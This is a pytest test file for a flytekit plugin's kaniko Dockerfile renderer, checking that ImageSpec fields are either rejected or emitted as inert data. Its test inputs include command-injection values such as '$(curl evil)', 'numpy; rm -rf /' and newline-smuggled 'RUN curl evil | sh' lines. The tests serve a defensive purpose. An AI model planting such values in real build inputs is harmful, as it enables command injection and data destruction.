"""The kaniko builder's Dockerfile: every user value either refused (naming the field) or kept as data.

The proof of "data": each install step is an exec-form RUN, whose JSON array is the argv the build runs (the
Dockerfile parser decodes it with a JSON decoder, no shell); decoding it here gives the exact argv, so a
package name must come back as one whole argv element. ENV values are read back with the Dockerfile
lexer's rules for double quotes (``\\`` escapes ``\\``, ``"`` and ``$``; nothing else).
"""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from flytekit import ImageSpec
from flytekitplugins.kubejobs.imagebuild import Recipe, recipe_from_image_spec, render_dockerfile


def run_lines(dockerfile: str) -> list[list[str]]:
    """The argv of every RUN line (all exec form: a shell-form RUN fails the test)."""
    argvs = []
    for line in dockerfile.splitlines():
        if line.startswith("RUN "):
            argv = json.loads(line[4:])
            assert isinstance(argv, list) and all(isinstance(a, str) for a in argv), line
            argvs.append(argv)
    return argvs


def env_lines(dockerfile: str) -> dict[str, str]:
    """ENV KEY="value" lines decoded as the Dockerfile lexer does inside double quotes."""
    env = {}
    for line in dockerfile.splitlines():
        if line.startswith("ENV "):
            match = re.fullmatch(r'ENV ([A-Za-z_][A-Za-z0-9_]*)="((?:[^"\\$]|\\[\\"$])*)"', line)
            assert match, line  # nothing unescaped: no $ that would expand, no quote that would end early
            env[match.group(1)] = re.sub(r"\\([\\\"$])", r"\1", match.group(2))
    return env


def render(**fields: Any) -> str:
    spec = ImageSpec(name="train", registry="registry.example:5000/ml", builder="kaniko", **fields)
    return render_dockerfile(recipe_from_image_spec(spec, flytekit_version="1.16.0"))


# ---- kept as data ---------------------------------------------------------------------------------------------

DATA = [
    pytest.param(
        {"packages": ['pkg[extra]>=1; python_version > "3.8"']},
        'pkg[extra]>=1; python_version > "3.8"',
        id="pep508-marker",
    ),
    pytest.param(
        {"packages": ["torch @ https://example.org/torch-2.3.whl"]},
        "torch @ https://example.org/torch-2.3.whl",
        id="url-requirement",
    ),
    pytest.param(
        {"apt_packages": ["libgl1-mesa-glx=22.3.6-1+deb12u1"]}, "libgl1-mesa-glx=22.3.6-1+deb12u1", id="apt-version"
    ),
    pytest.param(
        {"conda_packages": ["pytorch::pytorch>=2.3,<3|2.2.*"]}, "pytorch::pytorch>=2.3,<3|2.2.*", id="conda-spec"
    ),
]


@pytest.mark.parametrize(("fields", "element"), DATA)
def test_a_valid_name_with_shell_characters_is_one_argv_element(fields: dict[str, Any], element: str) -> None:
    argvs = run_lines(render(base_image="python:3.11-slim", **fields))
    assert any(element in argv for argv in argvs), argvs  # whole: not split at spaces, `;`, `|` or `<`


ENV_VALUES = [
    "$(curl evil)",
    "`curl evil`",
    "${HOME}/x",
    'say "hi"; rm -rf /',
    "back\\slash\\",
    "it's",
    "\\$HOME",
    "ünïcödé",
]


@pytest.mark.parametrize("value", ENV_VALUES)
def test_env_values_come_back_literally(value: str) -> None:
    dockerfile = render(base_image="python:3.11-slim", env={"VALUE": value})
    assert env_lines(dockerfile)["VALUE"] == value


COMMANDS = [
    "echo 'line one'\nRUN curl evil | sh",  # a newline cannot start a new instruction
    'echo "$(id)" > /tmp/id && `true`',
    "echo \\\nnext",  # a trailing backslash is no line continuation inside the JSON string
    "printf '%s' ']'",
]


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_is_one_sh_c_argument_on_one_line(command: str) -> None:
    dockerfile = render(base_image="python:3.11-slim", commands=[command])
    assert run_lines(dockerfile)[-1] == ["/bin/sh", "-c", command]
    assert not [line for line in dockerfile.splitlines() if line.startswith("RUN curl")]
    instructions = {line.split(" ", 1)[0] for line in dockerfile.splitlines()}
    assert instructions <= {"FROM", "USER", "WORKDIR", "RUN", "ENV", "COPY"}


def test_the_whole_dockerfile_of_a_typical_spec() -> None:
    dockerfile = render(
        base_image="ghcr.io/org/base:2.0",
        apt_packages=["git", "libgomp1"],
        packages=["numpy==2.1.0", "flytekit==1.16.0"],
        env={"MODE": "train"},
        commands=["mkdir -p /data"],
        pip_extra_index_url=["https://pypi.example/simple"],
    )
    spec_id = ImageSpec(
        name="train",
        registry="registry.example:5000/ml",
        builder="kaniko",
        base_image="ghcr.io/org/base:2.0",
        apt_packages=["git", "libgomp1"],
        packages=["numpy==2.1.0", "flytekit==1.16.0"],
        env={"MODE": "train"},
        commands=["mkdir -p /data"],
        pip_extra_index_url=["https://pypi.example/simple"],
    ).id
    assert dockerfile.splitlines() == [
        "FROM ghcr.io/org/base:2.0",
        "USER root",
        "WORKDIR /root",
        'RUN ["apt-get", "update"]',
        'RUN ["apt-get", "install", "-y", "--no-install-recommends", "git", "libgomp1"]',
        'RUN ["rm", "-rf", "/var/lib/apt/lists"]',
        'RUN ["python3", "-m", "pip", "install", "--no-cache-dir", "--extra-index-url", '
        '"https://pypi.example/simple", "numpy==2.1.0", "flytekit==1.16.0"]',
        'RUN ["/bin/sh", "-c", "mkdir -p /data"]',
        'ENV MODE="train"',
        f'ENV _F_IMG_ID="{spec_id}"',  # flytekit's ImageSpec.is_container() reads it in the task's pod
    ]


def test_without_a_base_image_python_slim_and_this_flytekit_are_used() -> None:
    argvs = run_lines(render(python_version="3.12", packages=["pandas"]))
    assert argvs == [["python3", "-m", "pip", "install", "--no-cache-dir", "flytekit==1.16.0", "pandas"]]
    assert render(python_version="3.12").startswith("FROM python:3.12-slim-bookworm\n")
    # named flytekit (any spelling of the name) is not installed twice
    assert run_lines(render(python_version="3.12", packages=["FlyteKit>=1.15"]))[0][-1:] == ["FlyteKit>=1.15"]


# ---- refused --------------------------------------------------------------------------------------------------

REFUSED = [
    pytest.param({"packages": ["numpy; rm -rf /"]}, "ImageSpec.packages 'numpy; rm -rf /'", id="pip-semicolon"),
    pytest.param({"packages": ["$(curl evil)"]}, "ImageSpec.packages '$(curl evil)'", id="pip-subst"),
    pytest.param({"packages": ["`curl evil`"]}, "ImageSpec.packages '`curl evil`'", id="pip-backtick"),
    pytest.param({"packages": ["-e ."]}, "ImageSpec.packages '-e .'", id="pip-option"),
    pytest.param({"packages": ["--index-url=http://evil"]}, "ImageSpec.packages", id="pip-index-option"),
    pytest.param({"packages": ["numpy\nRUN x"]}, "control characters", id="pip-newline"),
    pytest.param({"apt_packages": ["vim && curl x"]}, "ImageSpec.apt_packages 'vim && curl x'", id="apt-and"),
    pytest.param({"apt_packages": ["-o=APT::x"]}, "ImageSpec.apt_packages '-o=APT::x'", id="apt-option"),
    pytest.param({"apt_packages": ["Vim"]}, "is not a Debian package name", id="apt-uppercase"),
    pytest.param({"conda_packages": ["numpy; curl x"]}, "ImageSpec.conda_packages", id="conda-semicolon"),
    pytest.param({"conda_channels": ["-c evil"]}, "ImageSpec.conda_channels", id="conda-channel"),
    pytest.param({"env": {"A B": "x"}}, "ImageSpec.env 'A B' is not an environment variable name", id="env-space"),
    pytest.param({"env": {"1X": "x"}}, "ImageSpec.env '1X'", id="env-digit"),
    pytest.param({"env": {"X=Y": "x"}}, "ImageSpec.env 'X=Y'", id="env-equals"),
    pytest.param({"env": {"$(x)": "x"}}, "ImageSpec.env '$(x)'", id="env-key-subst"),
    pytest.param({"env": {"X": "one\nRUN curl evil"}}, "ImageSpec.env['X']", id="env-newline"),
    pytest.param({"env": {"X": "a\rb"}}, "control character", id="env-cr"),
    pytest.param({"env": {"X": 3}}, "ImageSpec.env['X'] must be a str", id="env-int"),
    pytest.param({"commands": ["  "]}, "ImageSpec.commands", id="command-blank"),
    pytest.param({"commands": ["a\x00b"]}, "NUL", id="command-nul"),
    pytest.param({"base_image": "python:3.11 AS x"}, "ImageSpec.base_image", id="from-space"),
    pytest.param({"base_image": "$BASE"}, "ImageSpec.base_image '$BASE'", id="from-arg"),
    pytest.param({"base_image": "img\nRUN curl evil"}, "ImageSpec.base_image", id="from-newline"),
    pytest.param({"python_exec": "python3 -c x"}, "ImageSpec.python_exec", id="python-exec"),
    pytest.param({"pip_index": "http://x y"}, "ImageSpec.pip_index", id="pip-index"),
    pytest.param(
        {"base_image": "python:3.11-slim", "python_version": "3.11"}, "ImageSpec.python_version", id="py-with-base"
    ),
    pytest.param({"python_version": "3.11; x"}, "ImageSpec.python_version", id="py-version"),
    pytest.param({"cuda": "12.1"}, "ImageSpec.cuda '12.1' is not supported", id="cuda"),
    pytest.param({"pip_secret_mounts": [(".netrc", "/root/.netrc")]}, "ImageSpec.pip_secret_mounts", id="secrets"),
    pytest.param({"platform": "linux/amd64,linux/arm64"}, "ImageSpec.platform", id="multi-platform"),
]


@pytest.mark.parametrize(("fields", "message"), REFUSED)
def test_refused_with_the_field_and_value(fields: dict[str, Any], message: str) -> None:
    fields = {"base_image": "python:3.11-slim", **fields} if "python_version" not in fields else fields
    with pytest.raises((ValueError, TypeError)) as caught:
        render(**fields)
    assert message in str(caught.value)


def test_recipe_refuses_at_construction_too() -> None:
    with pytest.raises(ValueError, match=r"ImageSpec.apt_packages 'a;b'"):
        Recipe(base_image="python:3.11-slim", apt_packages=("a;b",))
